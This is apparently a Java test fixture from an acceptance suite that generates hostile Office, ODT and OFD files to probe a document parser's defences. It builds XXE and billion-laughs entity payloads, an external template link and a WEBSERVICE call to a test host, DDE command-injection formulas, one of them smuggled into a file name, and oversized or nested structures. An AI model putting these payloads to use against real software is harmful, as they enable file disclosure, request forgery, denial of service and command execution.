package org.yanbao.acceptance.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.security.GeneralSecurityException;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/** Office files: entities in their parts, nesting, giant sheets, formulas that call programs. */
final class HostileOffice {
  private static final String WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
  private static final String SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
  private static final String RELATIONS =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
  private static final String CELL = "<w:tbl><w:tr><w:tc>";
  private static final String NO_REPORT = "未在文件中找到";
  private static final String DAMAGED = "已损坏";

  private HostileOffice() {}

  /**
   * Writes them.
   *
   * @param host an address that nobody may ask
   */
  static void writeTo(HostileFolder folder, String host) throws IOException {
    String far = HostileMarkup.entities(host);
    folder.packed("far.docx", DAMAGED, docx(far, paragraph("&far;&file;"), ""));
    folder.packed("laughs.docx", DAMAGED, docx(HostileMarkup.laughs(), paragraph("&e9;"), ""));
    String template =
        "<Relationship Id=\"t\" TargetMode=\"External\" Type=\"%sattachedTemplate\" Target=\"%s/t\"/>"
            .formatted(RELATIONS, host);
    folder.packed("template.docx", NO_REPORT, docx("", paragraph("今天天气很好"), template));
    folder.packed("deep.docx", "内部结构异常", docx("", CELL.repeat(20_000), ""));
    folder.packed("paragraphs.docx", "上限", docx("", paragraph("字").repeat(200_000), ""));
    folder.packed(
        "spans.docx",
        NO_REPORT,
        docx(
            "",
            "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val=\"2000000000\"/></w:tcPr>"
                + paragraph("字")
                + "</w:tc></w:tr></w:tbl>",
            ""));
    folder.packed(
        "far.odt",
        DAMAGED,
        Map.of(
            "mimetype",
            "application/vnd.oasis.opendocument.text",
            "content.xml",
            far + "<office:document-content>&far;</office:document-content>"));
    folder.packed("far.ofd", DAMAGED, Map.of("OFD.xml", far + "<ofd:OFD>&far;</ofd:OFD>"));
    folder.packed(
        "giant.xlsx",
        "",
        xlsx(
            "<dimension ref=\"A1:XFD1048576\"/><sheetData><row r=\"1\"><c"
                + " r=\"A1\"><v>1</v></c></row><row r=\"1048576\"><c"
                + " r=\"XFD1048576\"><v>1</v></c></row></sheetData><mergeCells><mergeCell"
                + " ref=\"A1:XFD1048576\"/></mergeCells>"));
    folder.packed(
        "program.xlsx",
        NO_REPORT,
        xlsx(
            "<sheetData><row r=\"1\"><c r=\"A1\" t=\"str\"><f>cmd|'/C calc'!A0</f><v>天气</v></c>"
                + "<c r=\"B1\" t=\"str\"><f>WEBSERVICE(\"%s/w\")</f><v>很好</v></c></row></sheetData>"
                    .formatted(host)));
    folder.file("=cmd|'C calc'!A0.docx", "密码", HostileOffice::locked);
    byte[] whole = lockedBytes();
    folder.file("cut.doc", "", out -> out.write(Arrays.copyOf(whole, whole.length / 2)));
  }

  private static String paragraph(String text) {
    return "<w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>";
  }

  private static Map<String, String> docx(String prologue, String body, String relations) {
    Map<String, String> parts = new LinkedHashMap<>();
    parts.put(
        "[Content_Types].xml", types("word/document.xml", "wordprocessingml.document.main+xml"));
    parts.put("_rels/.rels", relations("officeDocument", "word/document.xml", ""));
    parts.put("word/_rels/document.xml.rels", relations("styles", "styles.xml", relations));
    parts.put(
        "word/document.xml",
        prologue
            + "<w:document xmlns:w=\""
            + WORD
            + "\"><w:body>"
            + body
            + "</w:body></w:document>");
    return parts;
  }

  private static Map<String, String> xlsx(String content) {
    Map<String, String> parts = new LinkedHashMap<>();
    parts.put("[Content_Types].xml", types("xl/workbook.xml", "spreadsheetml.sheet.main+xml"));
    parts.put("_rels/.rels", relations("officeDocument", "xl/workbook.xml", ""));
    parts.put("xl/_rels/workbook.xml.rels", relations("worksheet", "worksheets/sheet1.xml", ""));
    parts.put(
        "xl/workbook.xml",
        "<workbook xmlns=\"%s\" xmlns:r=\"%s\"><sheets><sheet name=\"1\" sheetId=\"1\" r:id=\"r\"/></sheets></workbook>"
            .formatted(SHEET, RELATIONS.substring(0, RELATIONS.length() - 1)));
    parts.put(
        "xl/worksheets/sheet1.xml",
        "<worksheet xmlns=\"" + SHEET + "\">" + content + "</worksheet>");
    return parts;
  }

  private static String types(String part, String type) {
    return "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        + "<Override PartName=\"/%s\" ContentType=\"application/vnd.openxmlformats-officedocument.%s\"/></Types>"
            .formatted(part, type);
  }

  private static String relations(String type, String target, String more) {
    return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + "<Relationship Id=\"r\" Type=\"%s\" Target=\"%s\"/>".formatted(RELATIONS + type, target)
        + more
        + "</Relationships>";
  }

  /** A document under a password. */
  private static void locked(OutputStream out) throws IOException {
    out.write(lockedBytes());
  }

  private static byte[] lockedBytes() throws IOException {
    try (POIFSFileSystem compound = new POIFSFileSystem()) {
      Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
      encryptor.confirmPassword("secret");
      try (OutputStream data = encryptor.getDataStream(compound)) {
        data.write(new byte[20_000]);
      }
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      compound.writeFilesystem(bytes);
      return bytes.toByteArray();
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }
}
